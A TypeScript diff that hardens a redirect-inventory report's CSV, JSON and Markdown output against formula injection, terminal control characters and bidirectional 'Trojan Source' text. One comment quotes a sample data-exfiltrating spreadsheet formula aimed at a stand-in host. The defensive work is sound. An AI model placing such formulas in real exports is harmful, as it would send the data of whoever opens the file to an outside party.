@@ -23,7 +23,7 @@ export const REPORT_MEDIA_TYPES: Record<ReportFormat, string> = {
 };
 
 export function formatRedirectReport(report: RedirectReport, format: ReportFormat): string {
-  if (format === 'json') return `${JSON.stringify(report, null, 2)}\n`;
+  if (format === 'json') return reportJson(report);
   if (format === 'csv') return reportCsv(report);
   return reportMarkdown(report);
 }
@@ -32,6 +32,40 @@ export function formatRedirectReport(report: RedirectReport, format: ReportForma
 export function reportFileName(report: RedirectReport, format: ReportFormat): string {
   const safe = report.environment.replace(/[^A-Za-z0-9_.-]/g, '_');
   return `redirect-inventory-${safe}-${isoDay(report.generatedAt)}.${format}`;
+}
+
+/**
+ * What a terminal or a renderer acts on instead of showing: C0 and C1 controls and DEL (ESC and the
+ * 8-bit CSI drive a terminal the report is printed on), line and paragraph separators, and the
+ * bidirectional marks, embeddings, overrides and isolates (U+202E in a client name reorders the
+ * text after it, so a reviewer reads another URI than the one registered: "Trojan Source").
+ */
+// eslint-disable-next-line no-control-regex -- control characters are exactly what is matched
+const INVISIBLE = /[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/g;
+
+const NAMED: Record<string, string> = { '\t': '\\t', '\n': '\\n', '\r': '\\r' };
+
+/** Each of those as a visible escape (`\n`, `\x1b`, `\u202e`), so the reviewer sees it is there. */
+export function visible(text: string): string {
+  return text.replace(INVISIBLE, (c) => {
+    const named = NAMED[c];
+    if (named !== undefined) return named;
+    const code = c.charCodeAt(0);
+    return code <= 0xff
+      ? `\\x${code.toString(16).padStart(2, '0')}`
+      : `\\u${code.toString(16).padStart(4, '0')}`;
+  });
+}
+
+/**
+ * JSON as JSON.stringify writes it leaves DEL, the C1 controls and the bidirectional controls raw;
+ * as \uXXXX escapes the file parses back to the same strings and is safe to print.
+ */
+function reportJson(report: RedirectReport): string {
+  return `${JSON.stringify(report, null, 2).replace(
+    /[\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/g,
+    (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`,
+  )}\n`;
 }
 
 const iso = (at: number | null): string => (at === null ? '' : new Date(at).toISOString());
@@ -54,14 +88,19 @@ const FLAG_TITLES: Record<ReportFlagCode, string> = {
  * A spreadsheet runs a cell starting with = + - @ (or a tab or CR before one) as a formula:
  * `=HYPERLINK("https://evil.example/?"&A1)` in a client name would send the sheet's data away
  * when opened. Such a cell gets a leading ' so it is read as text (OWASP "CSV injection").
+ * Where the list separator is `;` (much of Europe), the spreadsheet opening this file splits cells
+ * at every `;` instead, quotes or not: `Shop;=HYPERLINK(...)` becomes a cell starting with `=`.
+ * So a `;` before a formula character gets the same ' after it.
  */
 export function neutralisedCell(text: string): string {
-  return /^[\t\r\n]|^\s*[=+\-@]/.test(text) ? `'${text}` : text;
+  const lead = /^[\t\r\n]|^[\s"]*[=+\-@]/.test(text) ? `'${text}` : text;
+  return lead.replace(/;(?=[\s"]*[=+\-@])/g, ";'");
 }
 
 function csvCell(value: string | number): string {
   if (typeof value === 'number') return String(value);
-  const text = neutralisedCell(value);
+  // One line per row: a line break or control character in a name is shown, not kept.
+  const text = neutralisedCell(visible(value));
   return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
 }
 
@@ -145,23 +184,19 @@ function reportCsv(report: RedirectReport): string {
  * are: CommonMark never reads them as emphasis, and client IDs are full of them.
  */
 export function mdText(text: string): string {
-  return (
-    text
-      // eslint-disable-next-line no-control-regex -- control characters would break the line
-      .replace(/[\x00-\x1f\x7f]+/g, ' ')
-      .replace(/[\\`*|~]/g, (c) => `\\${c}`)
-      .replace(/(?<![A-Za-z0-9])_|_(?![A-Za-z0-9])/g, '\\_')
-      .replace(/\]\(/g, '\\](')
-      .replace(/&/g, '&amp;')
-      .replace(/</g, '&lt;')
-      .replace(/>/g, '&gt;')
-  );
+  // A line break would end the line; any other control is shown.
+  return visible(text.replace(/[\t\n\r]+/g, ' '))
+    .replace(/[\\`*|~]/g, (c) => `\\${c}`)
+    .replace(/(?<![A-Za-z0-9])_|_(?![A-Za-z0-9])/g, '\\_')
+    .replace(/\]\(/g, '\\](')
+    .replace(/&/g, '&amp;')
+    .replace(/</g, '&lt;')
+    .replace(/>/g, '&gt;');
 }
 
 /** A URI as code in a table cell: a fence longer than any backtick run inside, `|` escaped. */
 function mdCode(text: string): string {
-  // eslint-disable-next-line no-control-regex -- control characters would break the line
-  const line = text.replace(/[\x00-\x1f\x7f]+/g, ' ').replace(/\|/g, '\\|');
+  const line = visible(text.replace(/[\t\n\r]+/g, ' ')).replace(/\|/g, '\\|');
   const longest = Math.max(0, ...(line.match(/`+/g) ?? []).map((run) => run.length));
   const fence = '`'.repeat(longest + 1);
   const pad = line.startsWith('`') || line.endsWith('`') ? ' ' : '';
